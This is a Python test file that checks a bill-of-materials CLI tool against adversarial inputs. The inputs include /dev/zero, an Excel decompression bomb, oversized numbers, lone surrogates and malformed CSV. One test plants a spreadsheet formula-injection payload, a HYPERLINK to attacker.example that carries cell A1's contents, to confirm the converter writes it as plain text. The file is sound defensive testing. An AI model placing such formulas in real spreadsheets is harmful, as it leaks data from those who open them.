"""What an adversarial new user broke, checked through the real `tmec` entry point.

Each test replays one finding of the hardening issue ("what an adversarial new user
broke") through ``python -m cli``, as a user runs it: unbounded input (``/dev/zero``, an
Excel shared-strings bomb, a sheet of millions of empty rows), tracebacks for bad values
(a 5000-digit JSON integer, 56-digit money values, truncated sheet XML, lone surrogates),
`;`-separated CSV files, CSV and Excel errors that named no file or the wrong row, and a
converter that wrote descriptions as live Excel formulas. The contract is the one of
`test_cli_errors.py`: exactly one stderr line ``error [code]: message``, never a traceback;
exit code 3 for invalid input and 9 for a document beyond a read limit
(`docs/bom-format.md`, "Read limits").
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.origin_rules import hostile

ROOT = Path(__file__).resolve().parents[2]
BOMS = ROOT / "tests" / "assets" / "boms"
INPUT_ERROR, LIMIT = 3, 9


@dataclass(frozen=True)
class Outcome:
    code: int
    stdout: str
    stderr: str

    def error_line(self) -> str:
        """The one line an error prints; fails unless stderr is exactly that."""
        assert "Traceback" not in self.stderr, self.stderr[-3000:]
        lines = self.stderr.splitlines()
        assert len(lines) == 1, self.stderr[-3000:]
        assert re.match(r"error \[[a-z_.]+\]: \S", lines[0]), lines[0]
        assert len(lines[0]) < 700, lines[0]  # never the megabyte the document held
        return lines[0]

    def json(self) -> Any:
        assert self.code == 0, self.stderr
        return json.loads(self.stdout)


def tmec(*args: str, env: dict[str, str] | None = None, stdin: bytes | None = None,
         timeout: float = 60) -> Outcome:
    """``python -m cli ARGS`` with extra environment variables (``TMEC_MAX_*`` limits)."""
    done = subprocess.run(
        [sys.executable, "-m", "cli", *args], input=stdin, capture_output=True, cwd=ROOT,
        env={**os.environ, "COLUMNS": "120", "NO_COLOR": "1", **(env or {})},
        timeout=timeout, check=False,
    )
    return Outcome(done.returncode, done.stdout.decode("utf-8", "replace"),
                   done.stderr.decode("utf-8", "replace"))


def two_level() -> dict[str, Any]:
    return json.loads((BOMS / "two_level.json").read_text(encoding="utf-8"))


def write_json(path: Path, document: Any) -> Path:
    path.write_text(json.dumps(document), encoding="utf-8")
    return path


def assert_limit(outcome: Outcome, limit: str) -> str:
    line = outcome.error_line()
    assert line.startswith("error [rules.limit_exceeded]: "), line
    assert f"(limit {limit} = " in line
    assert f"set TMEC_{limit.upper()} to change it" in line
    assert outcome.code == LIMIT
    return line


def assert_invalid(outcome: Outcome, *words: str) -> str:
    line = outcome.error_line()
    assert line.startswith("error [rules.bom_invalid]: "), line
    for word in words:
        assert word in line, line
    assert outcome.code == INPUT_ERROR
    return line


# ---------------------------------------------------------------------------------------
# 1. Unbounded input


def test_dev_zero_stops_at_the_document_limit() -> None:
    # Before: Path.read_bytes() on /dev/zero grew to 24 GB and was killed.
    outcome = tmec("rvc", "/dev/zero", env={"TMEC_MAX_DOCUMENT_BYTES": "1000000"})
    line = assert_limit(outcome, "max_document_bytes")
    assert "/dev/zero has more than 1000000 bytes" in line


def test_standard_input_stops_at_the_document_limit() -> None:
    data = (BOMS / "two_level.json").read_bytes()
    outcome = tmec("rvc", "-", stdin=data, env={"TMEC_MAX_DOCUMENT_BYTES": str(len(data) - 1)})
    assert "standard input" in assert_limit(outcome, "max_document_bytes")
    # one byte more and the same document is read
    assert tmec("rvc", "-", "--json", stdin=data,
                env={"TMEC_MAX_DOCUMENT_BYTES": str(len(data))}).json()["good"] == "brake"


def test_a_large_file_is_refused_by_its_size(tmp_path: Path) -> None:
    bom = tmp_path / "bom.json"
    bom.write_bytes(b" " * 2_000_000)
    assert_limit(tmec("rvc", str(bom), env={"TMEC_MAX_DOCUMENT_BYTES": "1000000"}),
                 "max_document_bytes")


@pytest.fixture(scope="module")
def shared_strings_bomb(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("bombs") / "strings.xlsx"
    path.write_bytes(hostile.shared_strings_bomb())
    return path


def test_the_shared_strings_bomb_is_refused_before_openpyxl(shared_strings_bomb: Path) -> None:
    # Before: this 1 MB workbook (425 MB of shared strings) ran for over a minute and took
    # over a gigabyte; now the zip directory refuses it.
    line = assert_limit(tmec("rvc", str(shared_strings_bomb), timeout=30),
                        "max_compression_ratio")
    assert "'xl/sharedStrings.xml' unpacks to" in line


def test_a_sheet_of_five_million_empty_rows_is_refused(tmp_path: Path) -> None:
    # Before: a 706 KB sheet of 5M empty rows without <dimension> ran 77 s.
    book = tmp_path / "rows.xlsx"
    book.write_bytes(hostile.minimal_workbook(items=hostile.empty_rows_sheet()))
    assert_limit(tmec("rvc", str(book), timeout=30), "max_compression_ratio")


def test_numbered_empty_rows_the_ratio_guard_misses_are_counted(tmp_path: Path) -> None:
    # <row r="N"/> rows deflate only 7 times: the rows are counted in the inflated XML.
    book = tmp_path / "rows.xlsx"
    book.write_bytes(hostile.minimal_workbook(items=hostile.empty_rows_sheet(numbered=True)))
    assert_invalid(tmec("rvc", str(book), timeout=30), "more than 1048576 rows")
    line = assert_limit(tmec("rvc", str(book), timeout=30, env={"TMEC_MAX_ROWS": "100000"}),
                        "max_rows")
    assert "has more than 100000 rows" in line


def test_blank_rows_of_a_sheet_count_against_max_rows(tmp_path: Path) -> None:
    book = tmp_path / "rows.xlsx"
    book.write_bytes(hostile.minimal_workbook(
        items=hostile.sheet_xml([*hostile.ITEMS, *([None] for _ in range(2000))])))
    assert tmec("rvc", str(book), "--json").json()["good"] == "brake"  # blank rows are fine
    line = assert_limit(tmec("rvc", str(book), env={"TMEC_MAX_ROWS": "1000"}), "max_rows")
    assert "sheet 'items' has more than 1000 rows (limit max_rows = 1000)" in line


def test_a_row_number_beyond_excel_is_refused_quickly(tmp_path: Path) -> None:
    # One row numbered 2,000,000: openpyxl would yield the 2 million rows before it.
    items = hostile.sheet_xml(hostile.ITEMS).replace(
        b"</sheetData>", b'<row r="2000000"><c t="inlineStr"><is><t>x</t></is></c></row>'
                         b"</sheetData>")
    book = tmp_path / "gap.xlsx"
    book.write_bytes(hostile.minimal_workbook(items=items))
    assert_invalid(tmec("rvc", str(book), timeout=30), "sheet 'items'",
                   "more than 1048576 rows")


def test_a_csv_table_with_too_many_rows(tmp_path: Path) -> None:
    for part in ("items", "lines"):  # 9 and 8 rows, header included
        shutil.copy(BOMS / f"two_level.{part}.csv", tmp_path / f"two_level.{part}.csv")
    options = ("--good", "brake", "--currency", "USD", "--as-of", "2024-01-01")
    line = assert_limit(tmec("rvc", str(tmp_path / "two_level.items.csv"), *options,
                             env={"TMEC_MAX_ROWS": "8"}), "max_rows")
    assert "two_level.items.csv has more than 8 rows" in line
    assert tmec("rvc", str(tmp_path / "two_level.items.csv"), *options,
                env={"TMEC_MAX_ROWS": "9"}).code == 0


def test_a_json_document_with_too_many_items() -> None:
    line = assert_limit(tmec("rvc", str(BOMS / "two_level.json"), env={"TMEC_MAX_ROWS": "7"}),
                        "max_rows")
    assert "the document has more than 7 items" in line


def test_deep_json_is_refused_by_the_depth_limit(tmp_path: Path) -> None:
    document = two_level()
    document["erp"] = json.loads("[" * 70 + "]" * 70)
    line = assert_limit(tmec("rvc", str(write_json(tmp_path / "deep.json", document))),
                        "max_json_depth")
    assert "nested too deeply" in line


def test_a_string_longer_than_the_limit(tmp_path: Path) -> None:
    document = two_level()
    document["items"][2]["description"] = "p" * 70_000
    line = assert_limit(tmec("rvc", str(write_json(tmp_path / "long.json", document))),
                        "max_string_bytes")
    assert "'description'" in line
    assert "(70000 characters)" in line  # the value is cut, its length given


@pytest.mark.parametrize("value", ["0", "-3", "x", "1.5", " "])
def test_a_bad_limit_setting_is_one_error_line(value: str) -> None:
    outcome = tmec("rvc", str(BOMS / "two_level.json"), env={"TMEC_MAX_ROWS": value})
    if value.strip():
        assert_invalid(outcome, "TMEC_MAX_ROWS must be a positive integer")
    else:  # an empty variable is unset
        assert outcome.code == 0, outcome.stderr


# ---------------------------------------------------------------------------------------
# 2. Tracebacks instead of errors


def test_a_5000_digit_json_integer_is_refused_in_our_words(tmp_path: Path) -> None:
    text = json.dumps(two_level()).replace('"qty": "2"', '"qty": ' + "9" * 5000, 1)
    bom = tmp_path / "long.json"
    bom.write_text(text, encoding="utf-8")
    line = assert_invalid(tmec("rvc", str(bom)), "number of 5000 characters")
    assert "sys." not in line
    assert "set_int_max_str_digits" not in line


@pytest.mark.parametrize("digits", [56, 60, 200])
def test_money_values_of_many_digits_are_refused_naming_the_field(
    tmp_path: Path, digits: int
) -> None:
    # Before: decimal.InvalidOperation from the engine (RVC quantized to 6 places).
    document = two_level()
    document["items"][2]["unit_value"] = "9" * digits
    document["items"][0]["transaction_value"] = "1"
    document["items"][0]["international_shipping"] = "0"
    bom = write_json(tmp_path / "big.json", document)
    line = assert_invalid(tmec("rvc", str(bom), "--method", "transaction_value"),
                          "item 'pad' (items[2]), field 'unit_value'",
                          "more than 15 digits before the decimal point")
    if digits > 60:
        assert f"({digits} characters)" in line


def test_the_largest_values_the_format_allows_are_evaluated(tmp_path: Path) -> None:
    document = two_level()
    document["items"][2]["unit_value"] = "999999999999999.999999999999"
    document["items"][0]["transaction_value"] = "0.000000000001"
    document["items"][0]["international_shipping"] = "0"
    document["lines"][1]["qty"] = "999999999999999"
    bom = write_json(tmp_path / "big.json", document)
    for method in ("transaction_value", "net_cost"):
        output = tmec("rvc", str(bom), "--json", "--method", method).json()
        assert output["results"][0]["pass"] is False
        assert tmec("rvc", str(bom), "--method", method).code == 0  # the human report too


def test_too_many_decimals_are_refused_in_csv_too(tmp_path: Path) -> None:
    for part in ("items", "lines", "document"):
        shutil.copy(BOMS / f"two_level.{part}.csv", tmp_path / f"two_level.{part}.csv")
    lines = tmp_path / "two_level.lines.csv"
    lines.write_text(lines.read_text().replace("caliper,pad,2", "caliper,pad,0." + "1" * 13))
    assert_invalid(tmec("rvc", str(lines)), "two_level.lines.csv row 3",
                   "more than 12 digits after the decimal point")


def test_truncated_sheet_xml_is_one_error_line(tmp_path: Path) -> None:
    # Before: xml.etree.ElementTree.ParseError escaped from openpyxl's iter_rows.
    sheet = hostile.sheet_xml(hostile.ITEMS, dimension="A1:H3")
    book = tmp_path / "cut.xlsx"
    book.write_bytes(hostile.minimal_workbook(items=sheet[: len(sheet) * 2 // 3]))
    assert_invalid(tmec("rvc", str(book)), "sheet 'items' is not readable", "ParseError")
    # without a <dimension>, openpyxl reads the whole sheet when it opens the workbook
    book.write_bytes(hostile.minimal_workbook(
        items=hostile.sheet_xml(hostile.ITEMS)[: len(sheet) // 2]))
    assert_invalid(tmec("rvc", str(book)), "not a readable Excel workbook", "ParseError")


@pytest.mark.parametrize(
    ("where", "words"),
    [
        pytest.param(("items", 2, "description"), ["item 'pad' (items[2])", "'description'"],
                     id="description"),
        pytest.param(("items", 2, "country"), ["item 'pad' (items[2])", "'country'"],
                     id="country"),
        pytest.param(("items", 4, "evidence", "token"), ["'disc'", "'evidence'", "'token'"],
                     id="evidence"),
        pytest.param(("producer", "name"), ["field 'producer'", "'name'"], id="producer"),
        pytest.param(("erp_batch",), ["field 'erp_batch'"], id="extension"),
    ],
)
def test_lone_surrogates_are_refused_naming_the_field(
    tmp_path: Path, where: tuple[Any, ...], words: list[str]
) -> None:
    # Before: accepted, then UnicodeEncodeError when the report or the JSON was printed.
    document = two_level()
    target: Any = document
    for step in where[:-1]:
        target = target[step]
    target[where[-1]] = "pastilla \ud800"
    bom = write_json(tmp_path / "surrogate.json", document)  # ensure_ascii: "\ud800"
    assert "\\ud800" in bom.read_text()
    for args in (("--json",), ()):
        assert_invalid(tmec("rvc", str(bom), *args), *words, "lone UTF-16 surrogate")


def test_a_lone_surrogate_in_an_item_id_is_named_by_position(tmp_path: Path) -> None:
    document = two_level()
    document["items"][2]["id"] = "\udc00pad"
    document["lines"][1]["child"] = "\udc00pad"
    line = assert_invalid(tmec("rvc", str(write_json(tmp_path / "s.json", document))),
                          "items[2]", "'id'", "lone UTF-16 surrogate")
    assert "\\udc00" in line


# ---------------------------------------------------------------------------------------
# 3. CSV: semicolons, and errors that name the file and the row


def copy_csv(tmp_path: Path, delimiter: str = ",") -> Path:
    for part in ("items", "lines", "document"):
        text = (BOMS / f"two_level.{part}.csv").read_text(encoding="utf-8")
        if delimiter != ",":
            rows = list(csv.reader(io.StringIO(text)))
            out = io.StringIO()
            csv.writer(out, delimiter=delimiter, lineterminator="\n").writerows(rows)
            text = out.getvalue()
        (tmp_path / f"two_level.{part}.csv").write_text(text, encoding="utf-8")
    return tmp_path / "two_level.items.csv"


def test_a_semicolon_csv_gives_the_same_determination(tmp_path: Path) -> None:
    # Before: "field 'good' is required" (the whole header was one column).
    items = copy_csv(tmp_path, ";")
    assert ";" in items.read_text().splitlines()[0]
    from_json = tmec("rvc", str(BOMS / "two_level.json"), "--json").json()
    assert tmec("rvc", str(items), "--json").json() == from_json


def test_a_decimal_comma_in_a_semicolon_csv_gets_a_hint(tmp_path: Path) -> None:
    items = copy_csv(tmp_path, ";")
    items.write_text(items.read_text().replace("brake pad;bought;8.00", "brake pad;bought;8,00"))
    assert_invalid(tmec("rvc", str(items)), "item 'pad' (two_level.items.csv row 4)",
                   "'unit_value'", '"8,00" is not a decimal number',
                   "write decimals with a point")


def edit_csv(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new), encoding="utf-8")


def test_an_unreachable_item_is_named_by_its_row(tmp_path: Path) -> None:
    items = copy_csv(tmp_path)
    with items.open("a", encoding="utf-8") as out:
        out.write("spare,7318.15,spare,bought,1,unknown\n")
    assert_invalid(tmec("rvc", str(items)), "'spare' (two_level.items.csv row 10)")


def test_a_cycle_is_named_by_the_rows_of_its_lines(tmp_path: Path) -> None:
    items = copy_csv(tmp_path)
    with (tmp_path / "two_level.lines.csv").open("a", encoding="utf-8") as out:
        out.write("caliper,brake,1\n")
    assert_invalid(tmec("rvc", str(items)), "two_level.lines.csv row 2",
                   "two_level.lines.csv row 9", "cycle: brake -> caliper -> brake")


def test_a_duplicate_id_names_both_rows(tmp_path: Path) -> None:
    items = copy_csv(tmp_path)
    with items.open("a", encoding="utf-8") as out:
        out.write("pad,7318.15,spare,bought,1,unknown\n")
    assert_invalid(tmec("rvc", str(items)), "two_level.items.csv row 10",
                   "already used by two_level.items.csv row 4")


@pytest.mark.parametrize(
    ("old", "new", "words"),
    [
        pytest.param("good,brake", "good,nothing",
                     ["two_level.document.csv row 3: field 'good' names 'nothing'"], id="good"),
        pytest.param("as_of,2023-07-15", "as_of,2023-13-15",
                     ["two_level.document.csv row 4: field 'as_of'"], id="as_of"),
        pytest.param("producer.country,MX", "producer.country,GT",
                     ["two_level.document.csv row 8: field 'producer'", "'country'"],
                     id="producer"),
    ],
)
def test_a_bad_document_table_field_names_its_row(
    tmp_path: Path, old: str, new: str, words: list[str]
) -> None:
    items = copy_csv(tmp_path)
    edit_csv(tmp_path / "two_level.document.csv", old, new)
    assert_invalid(tmec("rvc", str(items)), *words)


def test_a_bad_option_is_named_as_the_option(tmp_path: Path) -> None:
    items = copy_csv(tmp_path)
    assert_invalid(tmec("rvc", str(items), "--good", "pad"),
                   "option --good: the good 'pad' must be a made item")
    assert_invalid(tmec("rvc", str(items), "--currency", "usd"),
                   "option --currency: field 'currency'")


def test_a_missing_top_level_field_says_where_to_give_it(tmp_path: Path) -> None:
    items = copy_csv(tmp_path)
    (tmp_path / "two_level.document.csv").unlink()
    assert_invalid(tmec("rvc", str(items), "--currency", "USD", "--as-of", "2024-01-01"),
                   "field 'good' is required: give it in a row of two_level.document.csv "
                   "or as option --good")


def test_rows_after_a_quoted_line_break_keep_their_spreadsheet_number(tmp_path: Path) -> None:
    # Before: the reader counted lines of text, so every row after a quoted line break
    # was named one row too far down.
    items = copy_csv(tmp_path)
    edit_csv(items, "brake caliper", '"brake\ncaliper"')
    edit_csv(items, "brake pad,bought,8.00", "brake pad,bought,-8.00")
    assert_invalid(tmec("rvc", str(items)), "item 'pad' (two_level.items.csv row 4)",
                   "must not be negative")


def test_rows_after_blank_rows_keep_their_spreadsheet_number(tmp_path: Path) -> None:
    items = copy_csv(tmp_path)
    edit_csv(items, "\npad,", "\n\n,,,\npad,")
    edit_csv(items, "brake pad,bought,8.00", "brake pad,bought,-8.00")
    assert_invalid(tmec("rvc", str(items)), "item 'pad' (two_level.items.csv row 6)")


def test_tables_with_a_byte_order_mark_name_their_rows(tmp_path: Path) -> None:
    items = copy_csv(tmp_path)
    for part in ("items", "lines", "document"):
        path = tmp_path / f"two_level.{part}.csv"
        path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    assert tmec("rvc", str(items), "--json").json()["good"] == "brake"
    edit_csv(tmp_path / "two_level.document.csv", "currency,USD", "currency,dollars")
    assert_invalid(tmec("rvc", str(items)), "two_level.document.csv row 5: field 'currency'")


def test_a_csv_file_that_is_not_utf8_is_named(tmp_path: Path) -> None:
    items = copy_csv(tmp_path)
    lines = tmp_path / "two_level.lines.csv"
    lines.write_bytes(lines.read_bytes() + "caliper,pi\xf1on,1\n".encode("latin-1"))
    assert_invalid(tmec("rvc", str(items)), "two_level.lines.csv is not UTF-8 text")


def test_excel_errors_name_the_sheet_and_row_of_top_level_fields(tmp_path: Path) -> None:
    document = [*hostile.DOCUMENT[:1], ["good", "nothing"], *hostile.DOCUMENT[2:]]
    book = tmp_path / "bom.xlsx"
    book.write_bytes(hostile.minimal_workbook(document=hostile.sheet_xml(document)))
    assert_invalid(tmec("rvc", str(book)), "sheet 'document' row 2: field 'good' names")


# ---------------------------------------------------------------------------------------
# 4. The converter writes text as text


def test_the_converter_writes_a_formula_like_description_as_text(tmp_path: Path) -> None:
    # Before: tools/bom_to_tables.py wrote "=HYPERLINK(...)" as a live Excel formula.
    document = two_level()
    injected = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    document["items"][2]["description"] = injected
    document["items"][3]["description"] = "+1-2"
    source = write_json(tmp_path / "bom.json", document)
    done = subprocess.run([sys.executable, "tools/bom_to_tables.py", str(source),
                           str(tmp_path / "out")], cwd=ROOT, capture_output=True, text=True,
                          timeout=60, check=False)
    assert done.returncode == 0, done.stderr
    book = tmp_path / "out.xlsx"
    with zipfile.ZipFile(book) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
    cells = {cell.value: cell.data_type for row in load_workbook(book)["items"].iter_rows()
             for cell in row if cell.value is not None}
    assert cells[injected] == "s"
    assert cells["+1-2"] == "s"
    assert all(kind == "s" for kind in cells.values())  # decimals too stay text
    from_book = tmec("rvc", str(book), "--json").json()
    assert from_book == tmec("rvc", str(source), "--json").json()
